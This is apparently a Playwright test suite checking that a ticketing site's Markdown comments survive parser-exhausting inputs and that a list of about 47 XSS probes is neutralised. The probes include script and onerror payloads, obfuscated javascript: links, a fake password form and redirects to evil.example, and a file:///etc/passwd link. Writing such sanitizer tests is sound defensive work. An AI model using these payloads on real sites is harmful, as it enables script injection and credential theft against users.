import { commentBodyLimits } from '#shared/comments.ts'
import { descriptionLimits } from '#shared/tickets.ts'
import { expect, test, type Visitor } from './fixtures.ts'
import { givenTicket, mutate } from './people.ts'

const repeatTo = (size: number, text: string) => text.repeat(size / text.length)

/** Each took a parser of Markdown seconds to minutes, or all of its stack. */
const hostileTexts = (size: number) => [
  '>'.repeat(4_000),
  `${repeatTo(size - 1, '- ')}x`,
  repeatTo(size, '1) '),
  `${'*'.repeat(size / 2 - 1)}a${'*'.repeat(size / 2)}`,
  repeatTo(size, '=\n'),
  repeatTo(size, '_a*'),
  repeatTo(size, '[a](b "'),
]

const ask = async (
  { context, person: { organization } }: Visitor,
  address: string,
  description: string,
  replies: readonly string[],
) => {
  const ticket = await givenTicket(context.request, address, organization, { description })
  for (const body of replies) {
    const input = { ticketId: ticket.id, clientId: crypto.randomUUID(), kind: 'reply', body }
    await mutate(context.request, address, 'comments.add', { input, organization })
  }
  return ticket.path
}

test('texts made to break the page are shown as typed, answered and deleted', async ({
  visit,
  visitAsAdmin,
  site,
}) => {
  const rita = await visit('Rita Reader')
  const { page } = await visitAsAdmin()
  const texts = hostileTexts(commentBodyLimits.max)
  const path = await ask(rita, site.address, repeatTo(descriptionLimits.max, '=\n'), texts)

  await page.goto(path)
  const replies = page.getByRole('article', { name: 'reply by Rita Reader' })
  await expect(replies).toHaveCount(texts.length)
  // While the last of them are tried, the page answers.
  await page.getByRole('textbox', { name: 'Your reply' }).fill('What do you mean by that?')
  await page.getByRole('button', { name: 'Send', exact: true }).click({ timeout: 2_000 })
  await expect(page.getByRole('article', { name: 'reply by Ada Admin' })).toBeVisible()
  for (const [index, text] of texts.entries()) {
    await expect(replies.nth(index).locator('.markdown')).toHaveText(text, { timeout: 30_000 })
  }

  await replies.first().getByRole('button', { name: 'More for this reply' }).click()
  await page.getByRole('menuitem', { name: 'Delete' }).click()
  await page.getByRole('dialog').getByRole('button', { name: 'Delete' }).click()
  await expect(replies).toHaveCount(texts.length - 1)
  await expect(page.getByText('A reply by Rita Reader was deleted')).toBeVisible()
})

test('a long description that says nothing leaves its ticket readable, and so does its preview', async ({
  visit,
  site,
}) => {
  const rita = await visit('Rita Reader')
  for (const text of hostileTexts(descriptionLimits.max)) {
    await rita.page.goto(await ask(rita, site.address, text, ['It hums.']))
    await expect(rita.page.getByRole('article').getByText('It hums.')).toBeVisible()
  }
  const reply = rita.page.getByRole('textbox', { name: 'Your reply' })
  await reply.fill('>'.repeat(4_000))
  await rita.page.getByRole('button', { name: 'Preview' }).click()
  await expect(rita.page.getByRole('region', { name: 'Your reply, preview' })).toHaveText('>'.repeat(4_000))
  await rita.page.getByRole('button', { name: 'Write' }).click()
  await expect(reply).toHaveValue('>'.repeat(4_000))
})

test('a long text of ordinary work is rendered, also after one that was given up', async ({
  visit,
  site,
}) => {
  const rita = await visit('Rita Reader')
  const rows = Array.from({ length: 400 }, (_, row) => `| ${row} | lamp &copy; ${row} |`).join('\n')
  const table = `| number | name |\n| --- | --- |\n${rows}`
  const given = repeatTo(commentBodyLimits.max, '- ').concat('x').slice(1)
  await rita.page.goto(await ask(rita, site.address, table, [given, table, given.replaceAll('-', '+')]))
  const cells = rita.page.getByRole('cell', { name: 'lamp © 399' })
  await expect(cells).toHaveCount(2, { timeout: 30_000 })
})

const hit = "alert`1`;document.title='hit'"

/** Each tries to run, to load, to take a name, to lead astray or to look like the page around it. */
const probes = [
  `<script>${hit}</script>`,
  `<img src=x onerror="${hit}">`,
  `<svg onload="${hit}"><script>${hit}</script></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${hit}</script>"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src onerror="${hit}">`,
  `<iframe src="javascript:${hit}"></iframe>`,
  `<object data="data:text/html,<script>${hit}</script>"></object>`,
  `<a href="javascript:${hit}" id="login" class="send-more" style="position:fixed;inset:0">x</a>`,
  `<form action="https://evil.example"><input name="password"><button>Sign in</button></form>`,
  `<style>* { display: none }</style>`,
  `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">`,
  `<details open ontoggle="${hit}"><summary>x</summary></details>`,
  `<div style="background:url(https://evil.example/pixel.png)" onmouseover="${hit}">x</div>`,
  `<noscript><p title="</noscript><img src=x onerror=${hit}>">`,
  `<!--><img src=x onerror="${hit}">-->`,
  `[js](javascript:${hit})`,
  `[js](JaVaScRiPt:${hit})`,
  `[js](java\tscript:${hit})`,
  `[js](&#106;avascript:${hit})`,
  `[js](&#x6A;&#x61;vascript&colon;${hit})`,
  `[js](%6Aavascript:${hit})`,
  `[js](<javascript:${hit}>)`,
  `[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[vb](vbscript:msgbox)`,
  `[file](file:///etc/passwd)`,
  `[blob](blob:https://evil.example/1)`,
  `<javascript:${hit}>`,
  `<data:text/html,x>`,
  `[ref]\n\n[ref]: javascript:${hit} "title"`,
  `![pixel](https://evil.example/pixel.png)`,
  `![pixel][p]\n\n[p]: https://evil.example/pixel.png`,
  `![x](data:image/svg+xml,<svg onload=${hit}>)`,
  `[![pixel](https://evil.example/pixel.png)](javascript:${hit})`,
  `[x](https://evil.example" onmouseover="${hit})`,
  `[x](https://evil.example 'a" onfocus="${hit}" autofocus tabindex="1')`,
  `[out [in](https://evil.example/in)](https://evil.example/out)`,
  `https://evil.example/"onmouseover="${hit}`,
  `www.evil.example/<script>${hit}</script>`,
  `mailto:a@evil.example?body=<script>`,
  `Note[^__proto__] and[^constructor]\n\n[^__proto__]: one\n[^constructor]: <b>two</b>`,
  `# location\n\n## "><img src=x onerror=${hit}>`,
  `- [x] <input type="checkbox" onclick="${hit}">`,
  `| <script>${hit}</script> | [x](javascript:${hit}) |\n| :--: | --- |\n| <td onclick=1> | b |`,
  `\`\`\`js" onload="${hit}\nlet a\n\`\`\``,
  `\`\`\`\n</code></pre><script>${hit}</script>\n\`\`\``,
  `[https://bank.example](https://evil.example)`,
  `@"><img src=x onerror=${hit}> @javascript`,
]

test('whatever a message is made of, it runs nothing, loads nothing and leads nowhere unseen', async ({
  visit,
  site,
}) => {
  expect(probes.length).toBeGreaterThanOrEqual(30)
  const rita = await visit('Rita Reader')
  const { page } = rita
  const path = await ask(rita, site.address, probes.join('\n\n'), probes)
  const elsewhere: string[] = []
  page.on('request', (request) => {
    const isOurs = ['data:', 'blob:', site.address].some((begin) => request.url().startsWith(begin))
    if (!isOurs) elsewhere.push(request.url())
  })
  page.on('dialog', (dialog) => elsewhere.push(dialog.message()))
  await page.goto(path)
  const replies = page.getByRole('article', { name: 'reply by Rita Reader' })
  await expect(replies).toHaveCount(probes.length)
  await expect(page.locator('.markdown a').first()).toBeVisible()
  const found = await page.locator('.markdown').evaluateAll((texts) => {
    const all = texts.flatMap((text) => [...text.querySelectorAll('*')])
    const allowed =
      /^(a|abbr|b|blockquote|br|code|del|div|em|h[1-6]|hr|i|input|li|ol|p|pre|section|span|strong|sup|table|tbody|td|th|thead|tr|ul)$/
    const links = all.filter((element) => element instanceof HTMLAnchorElement)
    return {
      texts: texts.length,
      elements: all.map(({ localName }) => localName).filter((name) => !allowed.test(name)),
      // A column of a table may say to which side it is set.
      attributes: all.flatMap((element) =>
        element
          .getAttributeNames()
          .map((name) => `${name}=${element.getAttribute(name)}`)
          .filter(
            (each) => /^(on|style|src|name=|action|form)/.test(each) && each !== 'style=text-align: center;',
          ),
      ),
      ids: all.map(({ id }) => id).filter((id) => id !== '' && !id.startsWith('user-content-')),
      inputs: all.filter((element) => element.matches('input:not([type=checkbox]:disabled)')).length,
      schemes: [...new Set(links.map(({ href, protocol }) => (href === '' ? '' : protocol)))].sort(),
      open: links.filter(
        ({ rel, target }) => target !== '_blank' || !/(?=.*noopener)(?=.*nofollow)/.test(rel),
      ).length,
    }
  })
  expect(found).toEqual({
    texts: probes.length + 1,
    elements: [],
    attributes: [],
    ids: [],
    inputs: 0,
    schemes: ['', 'http:', 'https:', 'mailto:'],
    open: 0,
  })
  expect(await page.title()).not.toContain('hit')
  expect(elsewhere).toEqual([])
})
